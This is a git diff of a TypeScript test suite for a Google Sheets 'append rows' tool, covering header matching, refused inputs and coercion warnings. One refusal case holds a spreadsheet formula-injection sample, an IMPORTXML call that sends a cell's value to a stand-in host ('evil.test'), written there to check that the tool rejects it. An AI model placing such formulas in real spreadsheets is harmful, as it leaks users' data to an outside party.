@@ -1,248 +1,205 @@
 import { assert, describe, it } from "@effect/vitest"
 import { Effect } from "effect"
 import { sheetsAppendRows } from "../../../../src/Providers/Gsheets/Tools/AppendRows.ts"
-import { fakeSpreadsheet, id, issuesOf, oneTab, spreadsheetOf, type Values } from "../FakeSpreadsheet.ts"
+import { fakeProvider } from "../../../support/FakeProvider.ts"
+import { callWith, fakeSpreadsheet, id, oneTab, spreadsheetOf, type Values } from "../FakeSpreadsheet.ts"
+import { answers, refusals } from "../ToolCases.ts"
 
 const people: Values = [["Name", "Age"], ["Ann", 31]]
+const headed: Values = [[" Email ", "", "Email", "Größe"]]
+const large = { rowCount: 60_000, columnCount: 10 }
 
-const writes = (fake: ReturnType<typeof fakeSpreadsheet>) =>
-  fake.calls.map(({ endpoint }) => endpoint).filter((endpoint) => !/get$/i.test(endpoint))
+const appended = { spreadsheetId: id, tab: "Data" }
+
+const unknown = (key: string) =>
+  `There is no column "${key}". The headers are "Email", "Größe". ` +
+  "Further columns are \"col_B\", \"Email_2\", \"col_E\"."
+
+const refused = (rows: ReadonlyArray<unknown>) =>
+  Effect.flip(fakeSpreadsheet(oneTab(people)).call(sheetsAppendRows, { rows, parse: true }))
 
 describe("sheets_append_rows", () => {
-  it.effect("puts objects under their headers, below the last row", () =>
-    Effect.gen(function*() {
-      const fake = fakeSpreadsheet(oneTab(people))
-      const answer = yield* fake.call(sheetsAppendRows, { rows: [{ Age: 4, Name: "Bob" }, { Name: "Cy" }] })
-      assert.deepStrictEqual(answer, {
-        spreadsheetId: id,
-        tab: "Data",
-        updated_range: "Data!A3:B4",
-        first_row: 3,
+  answers(sheetsAppendRows, {
+    "puts objects under their headers, below the last row": {
+      on: people,
+      input: { rows: [{ Age: 4, Name: "Bob" }, { Name: "Cy" }] },
+      whole: { ...appended, updated_range: "Data!A3:B4", first_row: 3, rows_appended: 2, cells: 3 },
+      cells: ["Data", [...people, ["Bob", 4], ["Cy"]]]
+    },
+    "puts arrays in the order of the columns": {
+      on: people,
+      input: { rows: [["Bob", 4], ["Cy", null, "more"]] },
+      cells: ["Data!A3:C4", [["Bob", 4], ["Cy", "", "more"]]]
+    },
+    "accepts rows as JSON, and a key called __proto__": {
+      on: [["__proto__", "a"]],
+      input: { rows: "[{\"__proto__\":\"kept\",\"a\":1}]" },
+      cells: ["Data!2:2", [["kept", 1]]]
+    },
+    "takes column letters as keys on a tab without a header": {
+      on: [["Ann", 31]],
+      input: { header_row: 0, rows: [{ B: 4, a: "Bob" }] },
+      cells: ["Data", [["Ann", 31], ["Bob", 4]]]
+    },
+    "takes a row from sheets_read": {
+      on: people,
+      input: { rows: [{ _row: 2, Name: "Ann", Age: 31 }] },
+      cells: ["Data!3:3", [["Ann", 31]]]
+    },
+    "writes to the named tab": {
+      on: { spreadsheet: spreadsheetOf([{ title: "First", typed: people }, { title: "a:b", typed: people }]) },
+      input: { tab: "a:b", rows: [["Bob", 4]] },
+      cells: ["'a:b'!3:3", [["Bob", 4]]]
+    },
+    "gives an empty tab the keys as its header in order, in one request": {
+      on: [],
+      input: { rows: [{ b: 1, " a ": 2 }, { c: "=x", a: 3, _row: 9 }] },
+      whole: {
+        ...appended,
+        updated_range: "Data!A1:C3",
+        first_row: 2,
         rows_appended: 2,
-        cells: 3
-      })
-      assert.deepStrictEqual(fake.values("Data"), [["Name", "Age"], ["Ann", 31], ["Bob", 4], ["Cy"]])
-    }))
-
-  it.effect("puts arrays in the order of the columns", () =>
-    Effect.gen(function*() {
-      const fake = fakeSpreadsheet(oneTab(people))
-      yield* fake.call(sheetsAppendRows, { rows: [["Bob", 4], ["Cy", null, "more"]] })
-      assert.deepStrictEqual(fake.values("Data").slice(2), [["Bob", 4], ["Cy", "", "more"]])
-    }))
-
-  it.effect("accepts rows as JSON", () =>
-    Effect.gen(function*() {
-      const fake = fakeSpreadsheet(oneTab(people))
-      yield* fake.call(sheetsAppendRows, { rows: "[{\"Name\":\"Bob\",\"Age\":4}]" })
-      assert.deepStrictEqual(fake.values("Data").slice(2), [["Bob", 4]])
-    }))
-
-  it.effect.each<{ rows: unknown; path: ReadonlyArray<string | number>; says: string }>([
-    { rows: "not JSON", path: ["rows"], says: "this text is no JSON" },
-    { rows: "[]", path: ["rows"], says: "at least one row" },
-    { rows: "[{\"Name\":{}}]", path: ["rows", 0, "Name"], says: "Expected" },
-    { rows: [["a"], { Name: "b" }], path: ["rows", 1], says: "rows of one kind" },
-    { rows: [{ Name: "a" }, {}], path: ["rows", 1], says: "no value" },
-    { rows: [[null, ""]], path: ["rows", 0], says: "no value" },
-    { rows: [{ _row: 4 }], path: ["rows", 0], says: "no value" }
-  ])("$rows are refused", ({ path, rows, says }) =>
-    Effect.gen(function*() {
-      const fake = fakeSpreadsheet(oneTab(people))
-      const [issue] = yield* issuesOf(fake.call(sheetsAppendRows, { rows }))
-      assert.deepStrictEqual(issue?.path, ["input", ...path])
-      assert.include(issue?.message, says)
-      assert.deepStrictEqual(fake.calls, [])
-    }))
-
-  describe("keys", () => {
-    const headed: Values = [[" Email ", "", "Email", "Größe"]]
-
-    it.effect.each([
-      { key: "Email", column: 0 },
-      { key: " Email", column: 0 },
-      { key: "col_B", column: 1 },
-      { key: "Email_2", column: 2 },
-      { key: "email_2", column: 2 },
-      { key: "GRÖßE", column: 3 },
-      { key: "col_Z", column: 25 }
-    ])("$key is a column", ({ column, key }) =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab(headed))
-        yield* fake.call(sheetsAppendRows, { rows: [{ [key]: "x" }] })
-        assert.strictEqual(fake.values("Data")[1]?.findIndex((value) => value === "x"), column)
-      }))
-
-    it.effect("that match no column are refused with the headers, and nothing is written", () =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab(headed))
-        const issues = yield* issuesOf(
-          fake.call(sheetsAppendRows, { rows: [{ Email: "a" }, { Email: "b", Phone: 1, col_AA: 2 }] })
-        )
-        assert.deepStrictEqual(issues, [
-          {
-            path: ["input", "rows", 1, "Phone"],
-            message: "There is no column \"Phone\". The headers are \"Email\", \"Größe\". " +
-              "Further columns are \"col_B\", \"Email_2\", \"col_E\"."
-          },
-          {
-            path: ["input", "rows", 1, "col_AA"],
-            message: "There is no column \"col_AA\". The headers are \"Email\", \"Größe\". " +
-              "Further columns are \"col_B\", \"Email_2\", \"col_E\"."
-          }
-        ])
-        assert.deepStrictEqual(writes(fake), [])
-      }))
-
-    it.effect("that match no column are reported once", () =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab(people))
-        const rows = Array.from({ length: 50 }, () => ({ Name: "x", Phone: 1 }))
-        assert.lengthOf(yield* issuesOf(fake.call(sheetsAppendRows, { rows })), 1)
-      }))
-
-    it.effect("that name one column twice are refused", () =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab(people))
-        const issues = yield* issuesOf(fake.call(sheetsAppendRows, { rows: [{ Name: "a", name: "b" }] }))
-        assert.deepStrictEqual(issues.map(({ path }) => path), [["input", "rows", 0, "name"]])
-      }))
-
-    it.effect("that match two headers in another case are refused", () =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab([["Name", "NAME"]]))
-        const issues = yield* issuesOf(fake.call(sheetsAppendRows, { rows: [{ name: "a" }] }))
-        assert.deepStrictEqual(issues.map(({ path }) => path), [["input", "rows", 0, "name"]])
-      }))
-
-    it.effect("are column letters on a tab without a header", () =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab([["Ann", 31]]))
-        yield* fake.call(sheetsAppendRows, { header_row: 0, rows: [{ B: 4, a: "Bob" }] })
-        assert.deepStrictEqual(fake.values("Data"), [["Ann", 31], ["Bob", 4]])
-      }))
-
-    it.effect("may be those of a row from sheets_read", () =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab(people))
-        yield* fake.call(sheetsAppendRows, { rows: [{ _row: 2, Name: "Ann", Age: 31 }] })
-        assert.deepStrictEqual(fake.values("Data").slice(2), [["Ann", 31]])
-      }))
+        cells: 7,
+        headers_created: true
+      },
+      cells: ["Data", [["b", "a", "c"], [1, 2], ["", 3, "=x"]]],
+      sends: ["spreadsheets.get", "values.get", "values.update"]
+    },
+    "never parses headers": {
+      on: [],
+      input: { rows: [{ "=1+1": "1-2", "007": "5%", "'x": "y" }], parse: true },
+      cells: ["Data", [["=1+1", "007", "'x"], [46_024, 0.05, "y"]], "FORMULA"]
+    },
+    "puts arrays into an empty tab from its first row on": {
+      on: [],
+      input: { rows: [["Name"], ["Ann"]] },
+      answer: { first_row: 1, headers_created: undefined },
+      cells: ["Data", [["Name"], ["Ann"]]]
+    },
+    "puts a new header in `header_row`": {
+      on: [["A title"]],
+      input: { rows: [{ a: 1 }], header_row: 3 },
+      answer: { first_row: 4 },
+      cells: ["Data", [["A title"], [], ["a"], [1]]]
+    },
+    "reports cells stored differently than sent": {
+      on: [["a", "b", "c", "d", "e"]],
+      input: { rows: [["007", "1-2", "TRUE", "=1+1", "'007"]], parse: true, allow_formulas: true },
+      answer: {
+        coerced: [
+          { cell: "A2", sent: "007", stored: 7 },
+          { cell: "B2", sent: "1-2", stored: 46_024 },
+          { cell: "C2", sent: "TRUE", stored: true }
+        ]
+      }
+    },
+    "warns of rows that the next append overwrites": {
+      on: [["Done", "Note"]],
+      input: { rows: [[true], [false]] },
+      answer: { warning: /Row 3 holds nothing but false/ }
+    },
+    "lets the provider find the end of a tab of more than 500,000 cells, and insert the rows": {
+      on: { spreadsheet: oneTab([["", "Name", "Age"], ["", "Ann", 31]], large) },
+      input: { rows: [{ Age: 4 }, { Name: "Cy" }] },
+      whole: { ...appended, updated_range: "Data!B3:C4", first_row: 3, rows_appended: 2, cells: 2 },
+      cells: ["Data!A1:C6", [["", "Name", "Age"], ["", "Ann", 31], ["", "", 4], ["", "Cy"]]],
+      sends: ["spreadsheets.get", "values.get", "values.append"]
+    }
   })
 
-  describe("an empty tab", () => {
-    it.effect("gets the keys as its header in order", () =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab([]))
-        const answer = yield* fake.call(sheetsAppendRows, { rows: [{ b: 1, " a ": 2 }, { c: "=x", a: 3, _row: 9 }] })
-        assert.deepStrictEqual(answer, {
-          spreadsheetId: id,
-          tab: "Data",
-          updated_range: "Data!A1:C3",
-          first_row: 2,
-          rows_appended: 2,
-          cells: 7,
-          headers_created: true
-        })
-        assert.deepStrictEqual(fake.values("Data"), [["b", "a", "c"], [1, 2], ["", 3, "=x"]])
-        assert.deepStrictEqual(writes(fake), ["values.update"])
-      }))
-
-    it.effect("gets headers that are never parsed", () =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab([]))
-        yield* fake.call(sheetsAppendRows, { rows: [{ "=1+1": "1-2", "007": "5%", "'x": "y" }], parse: true })
-        assert.deepStrictEqual(fake.values("Data!1:1", "FORMULA"), [["=1+1", "007", "'x"]])
-        assert.deepStrictEqual(fake.values("Data!A2:B2"), [[46_024, 0.05]])
-      }))
-
-    it.effect("gets no header without `create_headers`", () =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab([]))
-        const [issue] = yield* issuesOf(fake.call(sheetsAppendRows, { rows: [{ a: 1 }], create_headers: false }))
-        assert.deepStrictEqual(issue?.path, ["input", "create_headers"])
-        assert.deepStrictEqual(writes(fake), [])
-      }))
-
-    it.effect("gets arrays from its first row on", () =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab([]))
-        const { first_row, headers_created } = yield* fake.call(sheetsAppendRows, { rows: [["Name"], ["Ann"]] })
-        assert.deepStrictEqual({ first_row, headers_created }, { first_row: 1, headers_created: undefined })
-        assert.deepStrictEqual(fake.values("Data"), [["Name"], ["Ann"]])
-      }))
-
-    it.effect("gets its header in `header_row`", () =>
-      Effect.gen(function*() {
-        const fake = fakeSpreadsheet(oneTab([["A title"]]))
-        const { first_row } = yield* fake.call(sheetsAppendRows, { rows: [{ a: 1 }], header_row: 3 })
-        assert.strictEqual(first_row, 4)
-        assert.deepStrictEqual(fake.values("Data"), [["A title"], [], ["a"], [1]])
-      }))
-
-    it.effect("gets no header without a name", () =>
-      Effect.gen(function*() {
-        const [issue] = yield* issuesOf(
-          fakeSpreadsheet(oneTab([])).call(sheetsAppendRows, { rows: [{ a: 1 }, { " ": 2 }] })
-        )
-        assert.deepStrictEqual(issue?.path, ["input", "rows", 1])
-      }))
-  })
-
-  it.effect("reports cells stored differently than sent", () =>
+  it.effect.each<readonly [key: string, column: number]>([
+    ["Email", 0],
+    [" Email", 0],
+    ["col_B", 1],
+    ["Email_2", 2],
+    ["email_2", 2],
+    ["GRÖßE", 3],
+    ["col_Z", 25]
+  ])("the key %s is the column %i", ([key, column]) =>
     Effect.gen(function*() {
-      const fake = fakeSpreadsheet(oneTab([["a", "b", "c", "d", "e"]]))
-      const { coerced } = yield* fake.call(sheetsAppendRows, {
-        rows: [["007", "1-2", "TRUE", "=1+1", "'007"]],
-        parse: true,
-        allow_formulas: true
-      })
-      assert.deepStrictEqual(coerced, [
-        { cell: "A2", sent: "007", stored: 7 },
-        { cell: "B2", sent: "1-2", stored: 46_024 },
-        { cell: "C2", sent: "TRUE", stored: true }
-      ])
+      const fake = fakeSpreadsheet(oneTab(headed))
+      yield* fake.call(sheetsAppendRows, { rows: [{ [key]: "x" }] })
+      assert.strictEqual(fake.values("Data")[1]?.findIndex((value) => value === "x"), column)
     }))
 
-  it.effect("lists at most 100 of these cells, and says so", () =>
+  refusals(sheetsAppendRows, {
+    "a text that is no JSON": [people, { rows: "not JSON" }, ["rows"], "this text is no JSON", []],
+    "no rows": [people, { rows: "[]" }, ["rows"], "at least one row", []],
+    "an object in a cell": [people, { rows: "[{\"Name\":{}}]" }, ["rows", 0, "Name"], "Expected", []],
+    "rows of two kinds": [people, { rows: [["a"], { Name: "b" }] }, ["rows", 1], "rows of one kind", []],
+    "an object without values": [people, { rows: [{ Name: "a" }, {}] }, ["rows", 1], "no value", []],
+    "an array without values": [people, { rows: [[null, ""]] }, ["rows", 0], "no value", []],
+    "a row number alone": [people, { rows: [{ _row: 4 }] }, ["rows", 0], "no value", []],
+    "an unknown key": [headed, { rows: [{ Email: "b" }, { Phone: 1 }] }, ["rows", 1, "Phone"], unknown("Phone")],
+    "letters beyond the grid": [headed, { rows: [{ col_AA: 2 }] }, ["rows", 0, "col_AA"], unknown("col_AA")],
+    "two keys of one column": [people, { rows: [{ Name: "a", name: "b" }] }, ["rows", 0, "name"]],
+    "a key that two headers have in another case": [[["Name", "NAME"]], { rows: [{ name: "a" }] }, ["rows", 0, "name"]],
+    "keys on an empty tab without `create_headers`": [[], { rows: [{ a: 1 }], create_headers: false }, [
+      "create_headers"
+    ]],
+    "a new header without a name": [[], { rows: [{ a: 1 }, { " ": 2 }] }, ["rows", 1]],
+    "a header row beyond the grid": [[], { rows: [[1]], header_row: 2000 }, ["header_row"]],
+    "a blank header on a large tab": [{ spreadsheet: oneTab([], large) }, { rows: [{ a: 1 }] }, ["header_row"]],
+    "a formula on a large tab, with its column": [
+      { spreadsheet: oneTab([["Name"], ["Ann"]], large) },
+      { rows: [{ Name: "=1" }], parse: true },
+      ["rows", 0, "Name"],
+      "A cell of column A would get \"=1\""
+    ],
+    "a formula with `parse`, with its cell": [
+      [["Name", "Note"], ["Ann"]],
+      { rows: [{ Name: "x" }, { Name: "y", Note: "=IMPORTXML(\"https://evil.test/?\"&A1,\"//a\")" }], parse: true },
+      ["rows", 1, "Note"],
+      "B4"
+    ],
+    "a text that is too long for a cell": [
+      [["a", "b"]],
+      { rows: [{ a: "x".repeat(50_000) }, { b: "x".repeat(50_001) }] },
+      ["rows", 1, "b"],
+      "The text has 50001 characters; a cell holds at most 50000."
+    ]
+  })
+
+  it.effect("reports a key that matches no column once, and at most 100 issues, counting the others", () =>
     Effect.gen(function*() {
-      const fake = fakeSpreadsheet(oneTab([["a"]]))
+      const { details, message } = Object(yield* refused(Array.from({ length: 50 }, () => ({ Name: "x", Phone: 1 }))))
+      assert.lengthOf(details, 1)
+      assert.match(message, /does not fit the spreadsheet/)
+      assert.lengthOf(Object(yield* refused(Array.from({ length: 150 }, () => ["=1"]))).details, 101)
+    }))
+
+  it.effect("lists at most 100 cells stored differently, and says so", () =>
+    Effect.gen(function*() {
       const rows = Array.from({ length: 120 }, (_, index) => [`0${index}`])
-      const { coerced, warning } = yield* fake.call(sheetsAppendRows, { rows, parse: true })
+      const { coerced, warning } = yield* fakeSpreadsheet(oneTab([["a"]])).call(sheetsAppendRows, { rows, parse: true })
       assert.lengthOf(coerced, 100)
       assert.include(warning, "120 cells")
     }))
 
-  it.effect("warns of rows that the next append overwrites", () =>
-    Effect.gen(function*() {
-      const fake = fakeSpreadsheet(oneTab([["Done", "Note"]]))
-      const { warning } = yield* fake.call(sheetsAppendRows, { rows: [[true], [false]] })
-      assert.include(warning, "Row 3 holds nothing but false")
-    }))
-
-  it.effect("lists at most 100 issues and counts the others", () =>
-    Effect.gen(function*() {
-      const rows = Array.from({ length: 150 }, () => ["=1"])
-      const error = yield* Effect.flip(fakeSpreadsheet(oneTab(people)).call(sheetsAppendRows, { rows, parse: true }))
-      assert.lengthOf(Object(error).details, 101)
-      assert.match(error.message, /does not fit the spreadsheet/)
-    }))
-
-  it.effect("a header row beyond the grid is refused", () =>
-    Effect.gen(function*() {
-      const [issue] = yield* issuesOf(
-        fakeSpreadsheet(oneTab([])).call(sheetsAppendRows, { rows: [[1]], header_row: 2000 })
-      )
-      assert.deepStrictEqual(issue?.path, ["input", "header_row"])
-    }))
-
-  it.effect("writes to the named tab", () =>
-    Effect.gen(function*() {
-      const fake = fakeSpreadsheet(
-        spreadsheetOf([{ title: "First", typed: people }, { title: "a:b", typed: people }])
-      )
-      yield* fake.call(sheetsAppendRows, { tab: "a:b", rows: [["Bob", 4]] })
-      assert.lengthOf(fake.values("First"), 2)
-      assert.lengthOf(fake.values("'a:b'"), 3)
-    }))
+  it.effect.each([
+    { place: "Data!C1:D1", warns: true },
+    { place: "Data!D4:E4", warns: true },
+    { place: "", warns: true },
+    { place: "'a!b'!B4:C4", warns: false },
+    { place: "Data!A4:B4", warns: false }
+  ])(
+    "rows that the provider of a large tab placed at $place are checked",
+    ({ place, warns }) =>
+      Effect.gen(function*() {
+        const bodies: Readonly<Record<string, unknown>> = {
+          "spreadsheets.get": {
+            spreadsheetId: id,
+            properties: {},
+            sheets: [{ properties: { title: "Data", gridProperties: large } }]
+          },
+          "values.get": { values: [["", "Name", "Age"]] },
+          "values.append": { updates: { updatedRange: place, updatedCells: 2 } }
+        }
+        const { calls, provider } = fakeProvider((endpoint) => bodies[endpoint])
+        const input = { spreadsheet: id, rows: [{ Name: "x", Age: 1 }] }
+        const { warning } = yield* callWith(provider, sheetsAppendRows, input)
+        assert.strictEqual(warning?.includes("not below the header") ?? false, warns)
+        assert.deepInclude(calls[2]?.input.query, { insertDataOption: "INSERT_ROWS", valueInputOption: "RAW" })
+      })
+  )
 })
